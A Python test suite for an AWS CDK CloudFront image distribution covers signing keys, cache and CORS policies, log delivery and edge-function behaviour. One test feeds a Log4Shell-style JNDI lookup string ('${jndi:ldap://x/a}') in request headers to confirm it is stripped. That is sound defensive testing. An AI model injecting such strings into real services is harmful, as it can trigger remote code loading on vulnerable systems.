"""The distribution: access, origins, cache keys, and properties that must never change."""

import hashlib
import json
import subprocess
from ipaddress import IPv6Address, IPv6Network
from random import Random

import pytest
from aws_cdk import App

from cdk.app import add_stacks
from cdk.config import STAGES, ConfigError
from cdk.edge_functions import control_request_code, image_request_code, image_response_code
from cdk.signing_keys import SigningKeys, TrustedKey
from functions.shared.keys import CACHE_TAG
from functions.shared.variant import Sizes
from tests.infrastructure.conftest import signing_keys

ALL_STAGES = pytest.mark.parametrize("name", ["local", "dev", "prod", "options", "other"])
STACK_ID = {"Ref": "AWS::StackId"}
CACHING_DISABLED = "4135ea2d-6df8-44a3-9df3-4b5a84be39ad"


class Edge:
    """One stage's Edge template, by what a viewer meets."""

    def __init__(self, template) -> None:
        self.resources = template["Resources"]
        self.config = self.resources["Distribution"]["Properties"]["DistributionConfig"]
        self.default = self.config["DefaultCacheBehavior"]
        self.behaviors = {each["PathPattern"]: each for each in self.config["CacheBehaviors"]}

    def of_type(self, kind):
        return {name: each for name, each in self.resources.items() if each["Type"] == kind}

    def referred(self, reference):
        return self.resources[reference.get("Ref") or reference["Fn::GetAtt"][0]]["Properties"]

    def keys(self, behavior):
        """Return the public keys that a behaviour trusts."""
        groups = [self.referred(group)["KeyGroupConfig"] for group in behavior.get("TrustedKeyGroups", [])]
        return {self.referred(item)["PublicKeyConfig"]["EncodedKey"] for group in groups for item in group["Items"]}

    def origin(self, origin_id):
        return next(each for each in self.config["Origins"] if each["Id"] == origin_id)

    def members(self, behavior):
        """Return the origins behind a behaviour in the order in which they are asked."""
        for group in self.config.get("OriginGroups", {}).get("Items", []):
            if group["Id"] == behavior["TargetOriginId"]:
                return [self.origin(each["OriginId"]) for each in group["Members"]["Items"]], group
        return [self.origin(behavior["TargetOriginId"])], None


@pytest.fixture
def edge(stage):
    return lambda name: Edge(stage(name).edge)


@pytest.mark.parametrize("name", ["local", "dev", "prod"])
def test_images_are_signed_by_viewers_and_everything_else_by_control(edge, name):
    behaviors = edge(name).behaviors
    viewers, control = edge(name).keys(behaviors["/images/*"]), edge(name).keys(behaviors["/v1/*"])

    assert set(behaviors) == {"/images/*", "/v1/*"}
    assert len(viewers) == 2
    assert len(control) == 1
    assert not viewers & control
    assert edge(name).keys(edge(name).default) == control


def test_public_images_need_no_signature_and_the_api_still_does(stage, edge):
    assert stage("other").config.viewer_access == "public"
    assert "TrustedKeyGroups" not in edge("other").behaviors["/images/*"]
    assert edge("other").keys(edge("other").behaviors["/v1/*"])
    assert edge("other").keys(edge("other").default)


def test_v2_requests_the_generated_bucket_first_and_the_api_on_a_miss(edge):
    members, group = edge("dev").members(edge("dev").behaviors["/images/*"])

    assert [("OriginAccessControlId" in each, "OriginCustomHeaders" in each) for each in members] == [
        (True, False),
        (False, True),
    ]
    assert {403, 404} <= set(group["FailoverCriteria"]["StatusCodes"]["Items"])
    (control,) = edge("dev").of_type("AWS::CloudFront::OriginAccessControl").values()
    assert control["Properties"]["OriginAccessControlConfig"]["SigningBehavior"] == "always"


def test_v1_requests_only_the_api(stage, edge):
    assert stage("other").config.delivery == "v1"
    members, group = edge("other").members(edge("other").behaviors["/images/*"])

    assert group is None
    assert ["OriginCustomHeaders" in each for each in members] == [True]
    assert edge("other").of_type("AWS::CloudFront::OriginAccessControl") == {}


@ALL_STAGES
def test_images_are_cached_only_by_path(edge, name):
    policy = edge(name).referred(edge(name).behaviors["/images/*"]["CachePolicyId"])["CachePolicyConfig"]

    assert policy["ParametersInCacheKeyAndForwardedToOrigin"] == {
        "CookiesConfig": {"CookieBehavior": "none"},
        "EnableAcceptEncodingBrotli": False,
        "EnableAcceptEncodingGzip": False,
        "HeadersConfig": {"HeaderBehavior": "none"},
        "QueryStringsConfig": {"QueryStringBehavior": "none"},
    }
    assert policy["MinTTL"] == 0  # an origin's no-store is obeyed


@ALL_STAGES
def test_the_api_is_never_cached_and_allows_every_method(edge, name):
    api = edge(name).behaviors["/v1/*"]

    assert api["CachePolicyId"] == CACHING_DISABLED
    assert {"GET", "POST", "DELETE"} <= set(api["AllowedMethods"])
    forwarded = edge(name).referred(api["OriginRequestPolicyId"])["OriginRequestPolicyConfig"]
    headers = forwarded["HeadersConfig"]["Headers"]
    assert {"Content-Type", "Idempotency-Key", "Origin", "x-viewer-address"} <= set(headers)
    assert "Host" not in headers  # API Gateway knows itself by another name
    assert len(headers) <= 10  # CloudFront's limit
    assert forwarded["QueryStringsConfig"]["QueryStringBehavior"] == "all"


@ALL_STAGES
def test_every_viewer_request_passes_a_function_and_every_answer_gets_the_security_headers(edge, name):
    for behavior in (edge(name).default, *edge(name).behaviors.values()):
        assert "viewer-request" in {each["EventType"] for each in behavior["FunctionAssociations"]}
        policy = edge(name).referred(behavior["ResponseHeadersPolicyId"])["ResponseHeadersPolicyConfig"]
        security = policy["SecurityHeadersConfig"]
        assert security["ContentTypeOptions"] == {"Override": True}
        assert security["ContentSecurityPolicy"]["ContentSecurityPolicy"] == "default-src 'none'; sandbox"


def test_viewers_come_over_ipv6_unless_the_stage_signs_for_their_ipv4_addresses(stage, edge):
    assert stage("other").config.ipv6 is False
    assert {name: edge(name).config["IPV6Enabled"] for name in ("dev", "other")} == {"dev": True, "other": False}


def cors_of(edge, path="/images/*"):
    policy = edge.referred(edge.behaviors[path]["ResponseHeadersPolicyId"])["ResponseHeadersPolicyConfig"]
    return policy.get("CorsConfig")


def test_other_web_origins_are_allowed_only_where_they_are_configured(stage, edge):
    assert cors_of(edge("dev")) is None
    assert cors_of(edge("options"))["AccessControlAllowOrigins"]["Items"] == list(
        stage("options").config.allowed_origins
    )


def test_only_pages_of_listed_origins_may_send_cookies_and_only_for_pictures(edge):
    assert [cors_of(edge(name))["AccessControlAllowCredentials"] for name in ("options", "other")] == [True, False]
    assert cors_of(edge("options"), "/v1/*")["AccessControlAllowCredentials"] is False


@ALL_STAGES
def test_access_logs_hold_no_signature_and_expire(stage, edge, name):
    assert "Logging" not in edge(name).config  # which always writes the query string
    (rule,) = edge(name).resources["EdgeAccessLogs"]["Properties"]["LifecycleConfiguration"]["Rules"]
    assert rule["ExpirationInDays"] == 90
    if stage(name).config.runs_on_emulator:
        return
    (delivery,) = edge(name).of_type("Custom::AccessLogDelivery").values()
    call = json.dumps(delivery["Properties"]["Create"])
    for secret in ("cs-uri-query", "Cookie", "Referer"):
        assert secret not in call
    for field in ("cs-uri-stem", "sc-status", "x-edge-result-type"):
        assert field in call


@pytest.mark.parametrize("name", ["dev", "prod", "options", "other"])
def test_log_delivery_is_created_in_us_east_1_and_deleted_first(edge, name):
    made = {
        kind: next(iter(edge(name).of_type(f"Custom::AccessLog{kind}").items()))
        for kind in ("Source", "Destination", "Delivery")
    }
    for _, resource in made.values():
        for call in ("Create", "Delete"):
            assert '\\"region\\":\\"us-east-1\\"' in json.dumps(resource["Properties"][call])
    assert {made["Source"][0], made["Destination"][0]} <= set(made["Delivery"][1]["DependsOn"])
    (policy,) = (
        each["Properties"]["PolicyDocument"]["Statement"]
        for each in edge(name).of_type("AWS::S3::BucketPolicy").values()
    )
    (delivers,) = (each for each in policy if each.get("Sid") == "LogDelivery")
    assert delivers["Principal"] == {"Service": "delivery.logs.amazonaws.com"}
    assert delivers["Condition"]["StringEquals"]["aws:SourceAccount"] == {"Ref": "AWS::AccountId"}
    assert "delivery-source" in json.dumps(delivers["Condition"]["ArnLike"])


@ALL_STAGES
def test_names_that_hold_for_all_regions_have_the_region_in_them(edge, name):
    """One stage in two regions: CloudFront knows every name once in an account."""
    configs = {
        "AWS::CloudFront::CachePolicy": "CachePolicyConfig",
        "AWS::CloudFront::KeyGroup": "KeyGroupConfig",
        "AWS::CloudFront::OriginAccessControl": "OriginAccessControlConfig",
        "AWS::CloudFront::OriginRequestPolicy": "OriginRequestPolicyConfig",
        "AWS::CloudFront::PublicKey": "PublicKeyConfig",
        "AWS::CloudFront::ResponseHeadersPolicy": "ResponseHeadersPolicyConfig",
    }
    for kind, config in configs.items():
        for resource in edge(name).of_type(kind).values():
            assert {"Ref": "AWS::Region"} in resource["Properties"][config]["Name"]["Fn::Join"][1]
    named = {kind for kind in {each["Type"] for each in edge(name).resources.values()} if "CloudFront" in kind}
    assert named <= set(configs) | {"AWS::CloudFront::Distribution", "AWS::CloudFront::Function"}


@ALL_STAGES
def test_cached_responses_are_tagged_with_their_image(edge, name):
    assert edge(name).config["CacheTagConfig"] == {"HeaderName": f"x-amz-meta-{CACHE_TAG}"}
    policy = edge(name).referred(edge(name).behaviors["/images/*"]["ResponseHeadersPolicyId"])
    removed = policy["ResponseHeadersPolicyConfig"]["RemoveHeadersConfig"]["Items"]
    assert {"Header": f"x-amz-meta-{CACHE_TAG}"} in removed


# --- what must never change


@ALL_STAGES
def test_the_distribution_and_its_logs_keep_their_logical_ids(edge, name):
    """A change here replaces deployed distributions, including their addresses, DNS and all signed URLs."""
    assert list(edge(name).of_type("AWS::CloudFront::Distribution")) == ["Distribution"]
    assert list(edge(name).of_type("AWS::S3::Bucket")) == ["EdgeAccessLogs"]
    assert "BucketName" not in edge(name).resources["EdgeAccessLogs"]["Properties"]


def test_logs_of_a_real_stage_outlive_the_stack(edge):
    assert edge("prod").resources["EdgeAccessLogs"]["DeletionPolicy"] == "RetainExceptOnCreate"


@ALL_STAGES
def test_the_pipeline_never_refers_to_the_edge(stage, name):
    assert "Fn::ImportValue" not in json.dumps(stage(name).pipeline)


# --- keys


def test_a_key_keeps_its_logical_id_when_another_is_added_or_removed(tmp_path):
    keys = signing_keys()

    def fingerprints(*pems):
        (tmp_path / "viewers").mkdir(exist_ok=True)
        (tmp_path / "control").mkdir(exist_ok=True)
        for old in (tmp_path / "viewers").glob("*"):
            old.unlink()
        for number, pem in enumerate(pems):
            (tmp_path / "viewers" / f"{number}.pem").write_text(pem)
        (tmp_path / "control" / "0.pem").write_text(keys.control[0].pem)
        return [key.fingerprint for key in SigningKeys.read(tmp_path).viewers]

    old, new = (key.pem for key in keys.viewers)
    assert fingerprints(old, new)[1:] == fingerprints(new)


def test_keys_of_another_stage_are_refused(tmp_path):
    keys = signing_keys()
    for name, group, key in (("dev", "viewers", 0), ("prod", "viewers", 0), ("prod", "control", 1)):
        path = tmp_path / name / group / "0.pem"
        path.parent.mkdir(parents=True)
        path.write_text(keys.viewers[key].pem)

    with pytest.raises(ConfigError, match=r"dev/viewers/0.pem is also a key of .*prod"):
        SigningKeys.read(tmp_path / "prod").check_not_shared(tmp_path / "prod")


@pytest.mark.parametrize(("name", "refused"), [("dev", True), ("prod", True), ("local", False)])
def test_one_key_in_both_groups_is_refused_on_a_real_stage(name, refused):
    keys = signing_keys()
    shared = SigningKeys(viewers=keys.viewers, control=(keys.viewers[1],))

    if refused:
        with pytest.raises(ConfigError, match=f"the key {keys.viewers[1].fingerprint} is in both"):
            add_stacks(App(), STAGES[name], {}, shared)
    else:
        with pytest.raises(KeyError):  # it continues to the zips, which this test does not build
            add_stacks(App(), STAGES[name], {}, shared)


@pytest.mark.parametrize("count", [0, 3])
def test_a_group_without_a_key_or_with_too_many_is_refused_with_a_remedy(tmp_path, count):
    for group in ("viewers", "control"):
        (tmp_path / group).mkdir()
    for number in range(count):
        (tmp_path / "viewers" / f"{number}.pem").write_text(signing_keys().viewers[0].pem)

    with pytest.raises(ConfigError, match="image-scaler keys"):
        SigningKeys.read(tmp_path)


def test_a_private_key_among_the_public_ones_is_refused():
    with pytest.raises(ConfigError, match="not one PEM public key"):
        TrustedKey.from_pem("-----BEGIN PRIVATE KEY-----\nAA==\n-----END PRIVATE KEY-----\n", "viewers/1.pem")


# --- functions


@ALL_STAGES
def test_a_functions_name_changes_with_its_code_and_with_the_stack_and_it_has_no_tags(stage, edge, name):
    stack_part = {"Fn::Select": [0, {"Fn::Split": ["-", {"Fn::Select": [2, {"Fn::Split": ["/", STACK_ID]}]}]}]}
    for function in edge(name).of_type("AWS::CloudFront::Function").values():
        properties = function["Properties"]
        prefix, last = properties["Name"]["Fn::Join"][1]
        digest = hashlib.sha256(properties["FunctionCode"].encode()).hexdigest()[:8]

        assert last == stack_part
        assert prefix.endswith(f"-{digest}-")
        assert len(prefix) + 8 <= 64  # CloudFront's limit
        assert "Tags" not in properties
    manifest = json.loads((stage(name).directory / "manifest.json").read_text())
    stacks = [each for each in manifest["artifacts"].values() if each["type"] == "aws:cloudformation:stack"]
    assert [each["properties"].get("tags") for each in stacks] == [None, None]  # CloudFormation would hand them on


def run(code, event):
    """Run a CloudFront Function on an event in Node."""
    script = f"{code}\nprocess.stdout.write(JSON.stringify(handler({json.dumps(event)})))"
    done = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True)
    return json.loads(done.stdout)


def event(uri, *, query=None, **headers):
    request = {
        "method": "GET",
        "uri": uri,
        "querystring": query or {},
        "headers": {name: {"value": value} for name, value in headers.items()},
        "cookies": {},
    }
    return {"version": "1.0", "viewer": {"ip": "192.0.2.7"}, "request": request, "response": {"headers": {}}}


def test_the_viewers_address_is_the_edges_word_whatever_the_client_says():
    request = event("/v1/images", **{"x-viewer-address": "203.0.113.9"})

    assert run(control_request_code(), request)["headers"]["x-viewer-address"] == {"value": "192.0.2.7"}


def viewers_as_the_firewall_counts_them(addresses):
    """Run the deployed function for viewers at these addresses, all in one process, and return what it says of each."""
    script = (
        f"{control_request_code()}\n"
        + """
        const said = (ip) => handler({ viewer: { ip }, request: { uri: '/v1/images', headers: {} } });
        const answers = ADDRESSES.map((ip) => said(ip).headers['x-viewer-address'].value);
        process.stdout.write(JSON.stringify(answers));
    """.replace("ADDRESSES", json.dumps(addresses))
    )
    return json.loads(subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True).stdout)


def test_an_ipv4_viewer_is_its_address_and_an_ipv6_viewer_its_network():
    expected = {
        "192.0.2.7": "192.0.2.7",
        "2001:db8:1:2:3:4:5:6": "2001:db8:1:2::",
        "2001:0DB8:0001:0002:0003:0004:0005:0006": "2001:db8:1:2::",
        "2001:db8:1:2::": "2001:db8:1:2::",
        "2001:db8:1:2:ffff:ffff:ffff:ffff": "2001:db8:1:2::",
        "2001:db8:1:3::6": "2001:db8:1:3::",
        "2001:db8::6": "2001:db8::",
        "2001:0:0:1::6": "2001:0:0:1::",
        "2001::1:2:3:4:5": "2001:0:0:1::",
        "::1": "::",
        "::": "::",
        "1:2:3:4:5:6:7::": "1:2:3:4::",
        "::ffff:192.0.2.7": "192.0.2.7",
        "::FFFF:192.0.2.7": "192.0.2.7",
    }

    assert viewers_as_the_firewall_counts_them(list(expected)) == list(expected.values())


def test_an_invalid_address_is_passed_to_the_firewall_to_refuse():
    odd = ["", "unknown", "2001:db8", "1:2:3:4:5:6:7:8:9", "1::2::3", "1:2:3:4:5:6:7:8::", ":1:2:3:4:5:6:7",
           "12345::", "g::", "fe80::1%eth0", "[2001:db8::1]", "2001:db8::1:443x", "::1.2.3.4"]  # fmt: skip

    assert viewers_as_the_firewall_counts_them(odd) == odd


def test_networks_are_written_as_pythons_own_library_writes_them():
    random = Random(64)
    addresses = [
        IPv6Address(random.getrandbits(128) & ~sum(0xFFFF << 16 * group for group in random.sample(range(8), 3)))
        for _ in range(500)
    ]
    networks = [str(IPv6Network((address, 64), strict=False).network_address) for address in addresses]

    assert viewers_as_the_firewall_counts_them([str(address) for address in addresses]) == networks
    assert viewers_as_the_firewall_counts_them([address.exploded for address in addresses]) == networks


def test_an_image_request_becomes_canonical_and_carries_the_address():
    request = event("/images/01ARZ3NDEKTSV4RRFFQ69G5FAV", query={"w": {"value": "390"}})

    rewritten = run(image_request_code(Sizes.LADDER), request)

    assert "width=480" in rewritten["uri"]
    assert rewritten["headers"]["x-viewer-address"] == {"value": "192.0.2.7"}


@pytest.mark.parametrize("path", ["", "/fit=cover,format=webp,position=center,quality=auto"])
def test_nothing_that_a_viewer_writes_reaches_the_firewall_beside_the_shared_path(path):
    written = {"accept": "${jndi:ldap://x/a}", "x-forwarded-for": "${jndi:ldap://x/a}"}
    request = event(f"/images/01ARZ3NDEKTSV4RRFFQ69G5FAV{path}", **written)

    rewritten = run(image_request_code(Sizes.LADDER), request)

    assert rewritten["headers"] == {"accept": {"value": "*/*"}, "x-viewer-address": {"value": "192.0.2.7"}}


@ALL_STAGES
def test_a_refusal_by_the_firewall_is_not_cached(edge, name):
    kept = {each["ErrorCode"]: each["ErrorCachingMinTTL"] for each in edge(name).config["CustomErrorResponses"]}

    assert kept[403] == 0
    assert set(kept) == {403, 404, 500, 502, 503, 504}


@pytest.mark.parametrize(
    ("origin", "viewer"),
    [
        (None, "Accept, Origin"),
        ("Origin", "Origin, Accept"),
        ("accept", "accept, Origin"),
        ("Origin,Accept", "Origin, Accept"),
        ("*", "*"),
    ],
)
def test_every_picture_says_that_it_depends_on_accept_and_on_who_reads_it(origin, viewer):
    answered = event("/images/x")
    answered["response"]["headers"] = {"vary": {"value": origin}} if origin else {}

    assert run(image_response_code(), answered)["headers"]["vary"] == {"value": viewer}
